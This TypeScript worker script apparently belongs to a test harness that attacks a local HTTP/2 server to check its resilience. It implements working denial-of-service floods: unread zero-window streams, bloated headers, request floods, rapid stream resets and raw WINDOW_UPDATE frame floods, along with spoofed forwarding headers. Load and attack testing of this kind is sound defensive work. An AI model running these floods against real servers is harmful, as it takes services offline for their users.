import { once } from 'node:events';
import { type ClientHttp2Session, connect, constants, type OutgoingHttpHeaders } from 'node:http2';
import { Agent, get } from 'node:https';
import { setTimeout as wait } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { workerData } from 'node:worker_threads';
import type { Work } from './secure-attack.ts';

// Client of an attack over HTTP/2: a thread that runs for so long, on as many connections as it is given.
const { kind, connections, port, ca, host, lasts }: Work = workerData;
const end = performance.now() + lasts;
const streams = 100;
const from = { 'x-forwarded-for': '203.0.113.66' };

const attacks = {
  /** Send requests with a window of zero, and never read the response. */
  unread: () => readNothing({}),
  /** Send the same with as many header bytes as a request may have. */
  headers: () =>
    readNothing(Object.fromEntries(Array.from({ length: 14 }, (_, n) => [`x-${n}`, 'x'.repeat(960)]))),
  'full-speed': fullSpeed,
  'full-speed-1': fullSpeedOver1,
  'window-updates': floodWindowUpdates,
  resets,
};
await Promise.all(Array.from({ length: connections }, () => attacks[kind]()));
process.exit();

async function open(window?: number): Promise<ClientHttp2Session> {
  const session = connect(`https://127.0.0.1:${port}`, {
    ...{ servername: host, ca },
    ...(window === undefined ? {} : { settings: { initialWindowSize: window } }),
  });
  session.on('error', () => {});
  await Promise.race([once(session, 'connect'), once(session, 'close')]).catch(() => {});
  return session;
}

function ask(session: ClientHttp2Session, n: number, more: OutgoingHttpHeaders = {}) {
  const path = n % 2 === 0 ? '/' : `/search?q=${n}`;
  const stream = session.request({ ':path': path, ':authority': host, ...from, ...more });
  stream.on('error', () => {});
  return stream;
}

/** Reopen a session that the server has closed. */
async function readNothing(more: OutgoingHttpHeaders): Promise<void> {
  while (performance.now() < end) {
    const session = await open(0);
    for (let n = 0; n < streams && !session.destroyed && !session.closed; n += 1) ask(session, n, more);
    while (!session.destroyed && performance.now() < end) await wait(250);
    session.destroy();
    await wait(250);
  }
}

/**
 * Open as many streams as a connection allows, read each response as fast as it arrives, and send the next request for each that
 * ends.
 */
async function fullSpeed(): Promise<void> {
  while (performance.now() < end) {
    const session = await open();
    const reader = async () => {
      while (performance.now() < end && !session.destroyed && !session.closed) {
        const stream = ask(session, 0);
        await new Promise((done) => stream.once('close', done).resume());
        // The stream was refused before it began.
        if (stream.rstCode !== constants.NGHTTP2_NO_ERROR) await wait(50);
      }
    };
    await Promise.all(Array.from({ length: streams }, reader));
    await wait(100);
  }
}

/** The same on a connection of HTTP/1.1, which handles one request after another. */
async function fullSpeedOver1(): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 1, servername: host, ca });
  while (performance.now() < end)
    await new Promise<void>((done) => {
      const headers = { host, ...from };
      get({ host: '127.0.0.1', port, agent, path: '/', headers }, (response) =>
        response.resume().once('close', done),
      ).once('error', () => done());
    });
  agent.destroy();
}

/** Reset streams as soon as they are opened. */
async function resets(): Promise<void> {
  while (performance.now() < end) {
    const session = await open();
    while (performance.now() < end && !session.destroyed && !session.closed) {
      for (let n = 0; n < streams; n += 1) ask(session, 1).close(constants.NGHTTP2_CANCEL);
      await wait(1);
    }
  }
}

/** Send frames without effect, after the preface and an empty SETTINGS frame. */
async function floodWindowUpdates(): Promise<void> {
  const frame = Buffer.from([0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
  const flood = Buffer.concat(Array.from({ length: 5000 }, () => frame));
  const preface = Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
  ]);
  while (performance.now() < end) {
    const socket = connectTls({ host: '127.0.0.1', port, servername: host, ca, ALPNProtocols: ['h2'] });
    socket.on('error', () => {}).resume();
    await Promise.race([once(socket, 'secureConnect'), once(socket, 'close')]).catch(() => {});
    socket.write(preface);
    const send = () => {
      while (!socket.destroyed && performance.now() < end && socket.write(flood));
    };
    socket.on('drain', send);
    send();
    while (!socket.destroyed && performance.now() < end) await wait(50);
    socket.destroy();
    await wait(50);
  }
}
